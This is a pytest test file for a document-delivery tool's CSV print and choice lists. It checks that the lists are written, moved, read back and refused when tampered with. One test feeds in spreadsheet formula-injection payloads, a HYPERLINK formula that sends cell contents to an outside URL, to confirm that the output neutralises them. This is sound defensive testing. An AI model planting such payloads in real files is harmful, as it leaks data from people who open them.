"""The lists that a delivery leaves: read again by `voute letters`, and refused when they are not what was written."""

import csv
import io
from pathlib import Path

import pytest

from voute.client.choice import NO_VAULT, NOT_CHOSEN, Choice, Proof, Reason
from voute.client.choice_words import choice_sentences
from voute.client.preflight import Row
from voute.client.print_list import DeliveredLists, ListDamagedError, Placed, lists_of, move_lists, write_lists
from voute.core.ids import Hash
from voute.core.values import Names, parse_time

AT = parse_time("2026-02-03T15:42:07Z")
CHOSEN = Choice(Reason.CHOSEN, Proof(Hash(b"a" * 32), 1, 812, AT))
REVOKED = Choice(Reason.REVOKED, Proof(Hash(b"b" * 32), 2, 900, AT))
TYPES = {"tax-bill": Names(en="Tax bill", fr="Compte de taxes")}


def row(line: int) -> Row:
    nothing = {"due": None, "amount": None, "payment_reference": None, "reply_by": None, "document_key": None}
    return Row(
        line=line, reference=f"r-{line}", party="p", name="Amélie; Roy", address="1, rue\nX", slot=0, path="x.pdf",
        file_name=f"{line}.pdf", size=1, title="T", type="tax-bill", language="fr", instalments=(), **nothing,
    )  # fmt: skip


PLACED = [
    Placed(row(2), CHOSEN, "00" * 16),
    Placed(row(3), NOT_CHOSEN, "11" * 16),
    Placed(row(4), NO_VAULT),
    Placed(row(5), REVOKED),
]


def test_print_list_only_a_proven_choice_avoids_a_letter(tmp_path: Path) -> None:
    write_lists(tmp_path, "d1", lambda: PLACED)
    lists = DeliveredLists(tmp_path)
    assert [lists.avoids(row(line)) for line in (2, 3, 4, 5, 6)] == [True, False, False, False, False]
    said = [choice_sentences(lists, TYPES, row(line)) for line in (2, 3, 4, 5, 6)]
    assert [len(one) for one in said] == [1, 1, 0, 1, 0]
    assert "3 février 2026" in said[3][0].fr
    assert said[1][0].en.startswith("Tax bill: you also have it")


def test_print_list_what_any_delivery_prints_is_printed(tmp_path: Path) -> None:
    write_lists(tmp_path, "d1", lambda: PLACED)
    write_lists(tmp_path, "d2", lambda: [Placed(row(2), NOT_CHOSEN)])
    assert not DeliveredLists(tmp_path).avoids(row(2))


def test_print_list_lists_are_moved_once_and_again(tmp_path: Path) -> None:
    spool, folder = tmp_path / "spool", tmp_path / "run"
    write_lists(spool, "d1", lambda: PLACED)
    moved = move_lists(spool, folder, "d1")
    before = moved.print_list.read_bytes()
    for path in (lists_of(spool, "d1").print_list, lists_of(spool, "d1").choices):
        path.unlink()
    assert move_lists(spool, folder, "d1") == moved
    assert moved.print_list.read_bytes() == before


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "'", "'="])
def test_print_list_gives_a_spreadsheet_no_formula_and_reads_the_same_rows_back(tmp_path: Path, start: str) -> None:
    evil = f'{start}HYPERLINK("https://example.org/?"&A1)'
    bad = [row(line)._replace(reference=evil, name=evil, address=evil, title=evil, file_name=evil) for line in (2, 3)]
    bad[1] = bad[1]._replace(party="q")
    lists = write_lists(tmp_path, "d1", lambda: [Placed(bad[0], CHOSEN), Placed(bad[1], NOT_CHOSEN)])
    for path in (lists.print_list, lists.choices):
        cells = [
            cell for line in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""), delimiter=";") for cell in line
        ]
        assert sum(evil in cell for cell in cells) == 5
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    read = DeliveredLists(tmp_path)
    assert [read.avoids(one) for one in (*bad, row(2))] == [True, False, False]
    assert [read.reason(one) for one in bad] == [(Reason.CHOSEN, "2026-02-03T15:42:07Z"), (Reason.NOT_CHOSEN, "")]


@pytest.mark.parametrize("change", [b"", b"line;channel\r\n", b"\xff\xfe", b"x"])
def test_print_list_that_was_changed_is_refused(tmp_path: Path, change: bytes) -> None:
    lists = write_lists(tmp_path, "d1", lambda: PLACED)
    lists.choices.write_bytes(change)
    with pytest.raises(ListDamagedError):
        DeliveredLists(tmp_path)


def test_print_list_an_unknown_reason_is_refused(tmp_path: Path) -> None:
    lists = write_lists(tmp_path, "d1", lambda: PLACED)
    lists.print_list.write_bytes(lists.print_list.read_bytes().replace(b"not-chosen", b"whatever"))
    with pytest.raises(ListDamagedError):
        DeliveredLists(tmp_path)
